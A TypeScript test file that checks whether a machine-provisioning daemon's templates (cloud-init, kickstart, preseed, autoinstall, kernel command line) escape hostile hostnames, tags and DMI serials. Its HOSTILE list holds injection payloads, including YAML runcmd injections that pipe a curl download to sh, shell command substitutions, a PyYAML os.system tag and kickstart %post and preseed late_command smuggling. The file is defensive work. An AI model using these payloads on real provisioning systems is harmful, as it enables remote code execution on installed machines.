// Templates escape what machines report. Hostile values — what an agent could report as a DMI
// serial, or what could sit in a hostname or a tag — are rendered through the shipped templates
// and through an operator-style template using the filters, then read back by the parsers that
// will read them for real: the `yaml` package and PyYAML (cloud-init's parser), Python's shlex
// (pykickstart splits kickstart commands with it), and sh/busybox sh for commands. Each value must
// arrive as one value and no key, line or command may be added.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { loadInventory } from '../../daemon/core/inventory/load.js';
import { validateInventory } from '../../daemon/core/inventory/validate.js';
import { SAMPLE_FACTS, buildContext, render, renderString, templateEnv, type TemplateMachine } from '../../daemon/core/templates.js';
import { kernelLine } from '../../daemon/core/boot-text.js';
import { oneLine, preseedValue, shellWord } from '../../daemon/core/template-filters.js';
import { REPO, inventoryCopy } from '../lib/daemon.js';
import { tempDir } from '../lib/tmp.js';

const PWNED = join(tempDir('tpl'), 'pwned');
const HOSTILE = [
  'S1\nruncmd:\n  - [sh, -c, "curl http://203.0.113.9/x | sh"]',
  'S2\r\nruncmd: [touch, /tmp/pwn]\r\n',
  'x"\nruncmd: [id]\n"',
  "it's \"quoted\" both ways",
  `$(touch ${PWNED})`,
  `\`touch ${PWNED}\``,
  `a; touch ${PWNED} #`,
  `a && touch ${PWNED} || touch ${PWNED}`,
  "a' ; touch " + PWNED + " ; echo '",
  'value # comment',
  '#starts-a-comment',
  '&anchor value',
  '*alias',
  '<<: *alias',
  '!!python/object/apply:os.system ["id"]',
  '- item',
  '{ runcmd: [id] }',
  '[runcmd, id]',
  'key: value',
  '%end\n%post\ncurl http://203.0.113.9/x | sh\n%end',
  'ends in a backslash\\',
  'd-i\\\nd-i preseed/late_command string touch /tmp/pwn',
  'line\u2028runcmd: [id]\u2029\u0085x',
  'tab\there, NUL\u0000here, bell\u0007, DEL\u007f',
  'yes', 'null', '~', '0x10', '1e3', 'true',
  'né ünïcödé 😀 日本',
  '${net0/mac} ${{x}} {{ machine.name }} {% raw %}',
  ' leading and trailing spaces ',
  'x'.repeat(10_000),
];

const loaded = (() => {
  const l = loadInventory(join(REPO, 'inventory.yaml'));
  if (!l.ok) throw new Error('the example inventory must load');
  return l.value;
})();

function context(profileName: string, value: string, templatesDir = loaded.templatesDir) {
  const machine: TemplateMachine = {
    name: value, mac: value, ip: '10.20.0.13', hostname: value, tags: ['lab', value], owner: value,
    facts: { ...SAMPLE_FACTS, dmi: { vendor: value, product: 'P', serial: value } },
  };
  const profile = loaded.inventory.profiles[profileName]!;
  return { env: templateEnv(templatesDir), ctx: buildContext({ machine, profileName, profile, site: loaded.inventory.site, token: 'TOKEN-0123456789abcdef', instanceId: 'op-1' }) };
}

/** What PyYAML — cloud-init's parser — makes of each document (one python3 for all of them). */
function pyYaml(texts: string[]): unknown[] {
  const out = execFileSync('python3', ['-c', 'import sys, json, yaml; print(json.dumps([yaml.safe_load(t) for t in json.load(sys.stdin)]))'], { input: JSON.stringify(texts) });
  return JSON.parse(out.toString()) as unknown[];
}

/** Both parsers' view of each rendered document: [yaml package, PyYAML] per text. */
function parsedBoth(texts: string[]): Record<string, any>[][] {
  const py = pyYaml(texts);
  return texts.map((t, i) => [parseYaml(t), py[i]] as Record<string, any>[]);
}

/** Runs each one-line command in one shell process; returns what each printed. */
function runEach(shell: string[], commands: string[]): string[] {
  const script = commands.map((c) => `${c}; echo`).join('\n');
  const out = execFileSync(shell[0]!, [...shell.slice(1), '-c', script], { maxBuffer: 16 << 20 }).toString();
  return out.split('\n').slice(0, commands.length);
}

/** Python's shlex in POSIX mode with comments, as pykickstart reads a kickstart line. */
function shlexSplit(lines: string[]): string[][] {
  const out = execFileSync('python3', ['-c', 'import sys, json, shlex; print(json.dumps([shlex.split(l, comments=True) for l in json.load(sys.stdin)]))'], { input: JSON.stringify(lines) });
  return JSON.parse(out.toString()) as string[][];
}

test('cloud-init user-data: a hostile hostname, name, MAC or tag is one YAML string, no key added (yaml and PyYAML)', () => {
  const rendered = HOSTILE.map((v) => { const { env, ctx } = context('lab-image', v); return { v, ctx, text: render(env, 'cloud-init/user-data.j2', ctx) }; });
  const docs = parsedBoth(rendered.map((r) => r.text));
  for (const [i, { v, ctx, text }] of rendered.entries()) {
    assert.match(text, /^#cloud-config\n/, 'the header stays first');
    for (const doc of docs[i]!) {
      assert.deepEqual(Object.keys(doc), ['hostname', 'fqdn', 'manage_etc_hosts', 'phone_home'], JSON.stringify(v).slice(0, 80));
      assert.equal(doc.hostname, v);
      assert.equal(doc.fqdn, v);
      assert.equal(doc.manage_etc_hosts, true);
      assert.deepEqual(doc.phone_home, { url: ctx.phone_home_url, post: ['instance_id', 'hostname'], tries: 10 });
    }
  }
});

test('an operator template reporting the DMI serial through the filters: one string wherever it goes', () => {
  const dir = tempDir('tpl-op');
  writeFileSync(join(dir, 'serial.j2'), [
    '#cloud-config',
    '# serial: {{ machine.facts.dmi.serial | oneline }}',
    'hostname: {{ machine.hostname | yaml }}',
    'write_files:',
    '  - path: /etc/rackhand-serial',
    '    content: {{ machine.facts.dmi.serial | yaml }}',
    'bootcmd:',
    '  - [echo, {{ machine.facts.dmi.serial | yaml }}]',
    '  - {{ ("printf %s " ~ (machine.facts.dmi.serial | shell)) | yaml }}',
    'dmi: {{ machine.facts.dmi | yaml }}',
    'tags: {{ machine.tags | yaml }}',
    'cpus: {{ machine.facts.cpus | yaml }}',
    '',
  ].join('\n'));
  const texts = HOSTILE.map((v) => { const { env, ctx } = context('lab-image', v, dir); return render(env, 'serial.j2', ctx); });
  const docs = parsedBoth(texts);
  const commands: string[] = [];
  for (const [i, v] of HOSTILE.entries()) {
    for (const doc of docs[i]!) {
      assert.deepEqual(Object.keys(doc), ['hostname', 'write_files', 'bootcmd', 'dmi', 'tags', 'cpus'], JSON.stringify(v).slice(0, 80));
      assert.deepEqual(doc.write_files, [{ path: '/etc/rackhand-serial', content: v }]);
      assert.deepEqual(doc.bootcmd[0], ['echo', v]);
      assert.deepEqual(doc.dmi, { vendor: v, product: 'P', serial: v });
      assert.deepEqual(doc.tags, ['lab', v]);
      assert.equal(doc.cpus, 4, 'numbers stay numbers');
      commands.push(doc.bootcmd[1]);
    }
  }
  // The shell command cloud-init would run prints the serial (on one line) and runs nothing else.
  const printed = runEach(['sh'], commands);
  commands.forEach((_, k) => assert.equal(printed[k], oneLine(HOSTILE[Math.floor(k / 2)]!)));
  assert.equal(existsSync(PWNED), false, 'no payload ran');
});

test('kickstart: the commands are exactly the template\'s and the hostname arrives as one shlex word', () => {
  const { env: benv, ctx: bctx } = context('rocky-kickstart', 'HOST');
  const benign = render(benv, 'kickstart/rocky.ks.j2', bctx).split('\n');
  const toSplit: string[] = [];
  let phone = '';
  let started = '';
  for (const v of HOSTILE) {
    const { env, ctx } = context('rocky-kickstart', v);
    phone = ctx.phone_home_url;
    const lines = render(env, 'kickstart/rocky.ks.j2', ctx).split('\n');
    assert.equal(lines.length, benign.length, `${JSON.stringify(v).slice(0, 80)}: no line added`);
    lines.forEach((line, i) => {
      if (benign[i]!.startsWith('#')) assert.ok(line.startsWith('#'), `line ${i + 1} stays a comment`);
      else if (!benign[i]!.includes('HOST')) assert.equal(line, benign[i], `line ${i + 1} unchanged`);
    });
    toSplit.push(lines.find((l) => l.startsWith('network '))!, lines[lines.indexOf('%post --erroronfail') + 1]!, lines[lines.indexOf('%pre') + 1]!);
    assert.equal(lines.filter((l) => l.startsWith('%')).join('|'), '%pre|%end|%packages|%end|%post --erroronfail|%end', 'the sections stay the template\'s');
    started = ctx.installer_started_url;
  }
  const words = shlexSplit(toSplit);
  for (const [i, v] of HOSTILE.entries()) {
    assert.deepEqual(words[3 * i], ['network', '--bootproto=dhcp', `--device=${oneLine(v)}`, `--hostname=${oneLine(v)}`, '--activate']);
    assert.deepEqual(words[3 * i + 1], ['curl', '-fsS', '-X', 'POST', phone]);
    assert.deepEqual(words[3 * i + 2], ['curl', '-fsS', '-m', '10', '-X', 'POST', started, '||', 'true']);
  }
});

test('preseed: every line is the template\'s, the hostname is one debconf value, the early and late commands run only wget', () => {
  const { env: benv, ctx: bctx } = context('debian-preseed', 'HOST');
  const benign = render(benv, 'preseed/debian.cfg.j2', bctx).split('\n');
  const commands: string[] = [];
  for (const v of HOSTILE) {
    const { env, ctx } = context('debian-preseed', v);
    const lines = render(env, 'preseed/debian.cfg.j2', ctx).split('\n');
    assert.equal(lines.length, benign.length, `${JSON.stringify(v).slice(0, 80)}: no line added`);
    lines.forEach((line, i) => {
      if (benign[i]!.startsWith('#')) assert.ok(line.startsWith('#'), `line ${i + 1} stays a comment`);
      else if (!benign[i]!.includes('HOST')) assert.equal(line, benign[i], `line ${i + 1} unchanged`);
      assert.doesNotMatch(line, /\\$/, 'no line continues onto the next');
    });
    assert.ok(lines.includes(`d-i netcfg/get_hostname string ${preseedValue(v)}`));
    assert.ok(lines.includes(`d-i preseed/late_command string wget -q -T 10 -t 3 -O /dev/null --post-data= ${shellWord(ctx.phone_home_url)}`));
    for (const q of ['preseed/early_command', 'preseed/late_command']) {
      commands.push(lines.find((l) => l.startsWith(`d-i ${q} string `))!.slice(`d-i ${q} string `.length));
    }
  }
  // As d-i runs them (sh -c), with wget replaced by a function that prints its arguments: each
  // command calls wget once, with Rackhand's URL, whatever the hostname held.
  const printed = runEach(['busybox', 'sh'], commands.map((c) => `wget() { printf '[%s]' "$@"; }; ${c}`));
  const { ctx } = context('debian-preseed', 'HOST');
  HOSTILE.forEach((v, i) => {
    assert.equal(printed[2 * i], `[-q][-T][5][-t][2][-O][/dev/null][--post-data=][${ctx.installer_started_url}]`, JSON.stringify(v).slice(0, 80));
    assert.equal(printed[2 * i + 1], `[-q][-T][10][-t][3][-O][/dev/null][--post-data=][${ctx.phone_home_url}]`);
  });
  assert.equal(existsSync(PWNED), false, 'no payload ran');
});

test('an installer\'s command line: a hostile hostname or fact stays inside its own argument; no url= or other word is added', () => {
  const dir = tempDir('tpl-cmdline');
  const cmdline = 'auto=true priority=critical url={{ answer_url | kernel }} hostname={{ machine.hostname | kernel }} '
    + 'domain={{ site.domain | kernel }} serial={{ machine.facts.dmi.serial | kernel }}';
  for (const v of HOSTILE) {
    const { ctx } = context('debian-preseed', v);
    const line = kernelLine(renderString(templateEnv(dir), cmdline, ctx));
    const words = line.split(' ');
    assert.deepEqual(words.map((w) => w.split('=')[0]), ['auto', 'priority', 'url', 'hostname', 'domain', 'serial'], JSON.stringify(v).slice(0, 80));
    assert.equal(words[2], `url=${ctx.answer_url}`);
    assert.ok(words[3]!.length <= 'hostname='.length + 256, 'cut short enough to stay one word');
    assert.doesNotMatch(line, /[\t\n;&|$#{}`'"\\]/, 'nothing iPXE or a shell would read as syntax');
  }
});

test('autoinstall: one YAML string for the hostname, the early and late commands unchanged', () => {
  const { env: benv, ctx: bctx } = context('ubuntu-autoinstall', 'HOST');
  const benign = parseYaml(render(benv, 'autoinstall/ubuntu.yaml.j2', bctx)) as Record<string, any>;
  const rendered = HOSTILE.map((v) => { const { env, ctx } = context('ubuntu-autoinstall', v); return { v, ctx, text: render(env, 'autoinstall/ubuntu.yaml.j2', ctx) }; });
  const docs = parsedBoth(rendered.map((r) => r.text));
  for (const [i, { v, ctx }] of rendered.entries()) {
    for (const doc of docs[i]!) {
      assert.deepEqual(Object.keys(doc), ['autoinstall']);
      assert.deepEqual(Object.keys(doc.autoinstall), Object.keys(benign.autoinstall), JSON.stringify(v).slice(0, 80));
      assert.equal(doc.autoinstall.identity.hostname, v);
      assert.deepEqual(doc.autoinstall.network.ethernets.prov.match, { macaddress: v });
      assert.deepEqual(doc.autoinstall['late-commands'], [`curtin in-target -- curl -fsS -X POST '${ctx.phone_home_url}'`]);
      assert.deepEqual(doc.autoinstall['early-commands'], [`curl -fsS -m 10 -X POST '${ctx.installer_started_url}' || true`]);
    }
  }
});

test('shell words: sh and busybox sh read each value back as one word and run nothing', () => {
  for (const shell of [['sh'], ['busybox', 'sh']]) {
    const printed = runEach(shell, HOSTILE.map((v) => `printf '[%s]' ${shellWord(v)}`));
    HOSTILE.forEach((v, i) => assert.equal(printed[i], `[${oneLine(v)}]`, JSON.stringify(v).slice(0, 80)));
  }
  assert.equal(existsSync(PWNED), false, 'no payload ran');
});

test('rackhand validate still renders the shipped templates with sample facts, hostile tags included; a filter does not hide an undefined variable', () => {
  assert.equal(validateInventory(join(REPO, 'inventory.yaml')).ok, true);
  const inv = inventoryCopy();
  writeFileSync(inv, readFileSync(inv, 'utf8').replace('tags: [lab, bios]', 'tags: [lab, "x\\nruncmd: [id]"]'));
  assert.equal(validateInventory(inv).ok, true);
  const dir = join(inv, '..', 'templates');
  writeFileSync(join(dir, 'cloud-init', 'bad.j2'), 'hostname: {{ machine.hostnme | yaml }}\n');
  writeFileSync(inv, readFileSync(inv, 'utf8').replace('user_data: cloud-init/user-data.j2', 'user_data: cloud-init/bad.j2'));
  const bad = validateInventory(inv);
  assert.equal(bad.ok, false);
  assert.match(JSON.stringify(bad), /undefined/);
});
